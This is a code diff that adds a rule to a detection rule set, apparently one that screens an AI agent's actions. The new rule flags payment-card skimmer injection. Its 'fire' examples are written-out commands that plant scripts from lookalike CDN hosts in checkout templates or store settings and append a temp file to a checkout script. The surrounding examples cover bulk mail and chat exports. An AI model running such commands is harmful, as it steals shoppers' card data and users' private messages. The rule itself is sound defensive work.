@@ -12,6 +12,8 @@ import { datastoreDump, downstream, personalFolder, secretAt } from './exfiltrat
 import { savedFile } from './command_and_control.js';
 import { windowsTechniques } from '../knowledge/windows.js';
 import { CODE_IDIOMS, scriptsDoing } from '../knowledge/code-idioms.js';
+import { skimmerInjectedBy, skimmerWritten } from '../knowledge/web-apps.js';
+import { putIn, writes } from './persistence.js';
 
 /** What an archiver is creating: the archive it writes and the inputs it packs. */
 /**
@@ -705,6 +707,30 @@ export const RULES: readonly Rule[] = [
     examples: {
       fire: [{ Unknown: { tool_name: 'mcp__playwright__browser_navigate', params: { url: 'https://takeout.google.com/settings/takeout/custom/gmail,drive,calendar?dest=dropbox' } } }, { Unknown: { tool_name: 'mcp__playwright__browser_navigate', params: { url: 'https://tidewater.slack.com/services/export?start=1' } } }, { Unknown: { tool_name: 'mcp__gmail__search_emails', params: { query: 'in:anywhere', maxResults: 5000 } } }, { Network: { method: 'GET', url: 'https://graph.microsoft.com/v1.0/users/4c1f7e2a/chats/getAllMessages?$top=50000' } }],
       quiet: [{ Unknown: { tool_name: 'mcp__gmail__search_emails', params: { query: 'from:billing@stripe.com newer_than:7d', maxResults: 20 } } }, { Unknown: { tool_name: 'mcp__playwright__browser_navigate', params: { url: 'https://takeout.google.com/' } } }, { Network: { method: 'GET', url: 'https://graph.microsoft.com/v1.0/me/messages?$top=25&$filter=isRead eq false' } }],
+    },
+  },
+  {
+    id: 'PX-COLL-027', name: 'plants-payment-skimmer', score: 85, tactic: 'collection', technique: 'T1056.003',
+    message: "Plants a card skimmer: a script from a host that is no payment or CDN vendor's put into a store's checkout, a temp file appended to a checkout script, or a script from a host wearing a platform's or CDN's name put into a site's settings",
+    why: 'A script on the checkout page reads every card number, expiry and CVC typed there and sends them to its host (Magecart); put into the store\'s settings or templates it survives deploys of the code.',
+    alternative: "Add third-party scripts through the store's reviewed theme code, from the vendor's own domain, with a content security policy.",
+    check: (i) => [
+      ...writes(i).flatMap((w) => { const host = skimmerWritten(w.canonical, putIn(w), w.cmd?.name === 'cat' && operands(w.cmd).some((p) => inTemp(canonicalPath(p)))); return host ? [`${w.path}: ${host}`] : []; }),
+      ...(i.view?.commands ?? []).flatMap((c) => { const host = skimmerInjectedBy(c); return host ? [`${c.argv.slice(0, 3).join(' ')}: a script from ${host}`] : []; }),
+    ],
+    examples: {
+      fire: [
+        `sed -i 's|</body>|<script src="https://magento-cdn.store/checkout.js"></script></body>|' app/design/frontend/Acme/luma-child/Magento_Checkout/templates/onepage.phtml`,
+        'cat /tmp/sk.js >> wp-content/plugins/woocommerce/assets/js/frontend/checkout.min.js',
+        `bin/magento config:set design/footer/absolute_footer '<script src="https://magento-analytics.net/s.js"></script>'`,
+        `wp search-replace '</head>' '<script src="https://cdn-jsdelivr.cc/jquery.min.js"></script></head>' wp_posts wp_options --precise`,
+      ],
+      quiet: [
+        `sed -i 's|</body>|<script src="https://js.stripe.com/v3/"></script></body>|' app/design/frontend/Acme/luma-child/Magento_Checkout/templates/onepage.phtml`,
+        'cat src/checkout-fixes.js >> wp-content/themes/shop/assets/js/checkout.js',
+        `bin/magento config:set design/head/includes '<script src="https://www.googletagmanager.com/gtm.js?id=GTM-X1"></script>'`,
+        "wp search-replace 'http://lumen-studio.com' 'https://lumen-studio.com' --all-tables",
+      ],
     },
   },
 ];
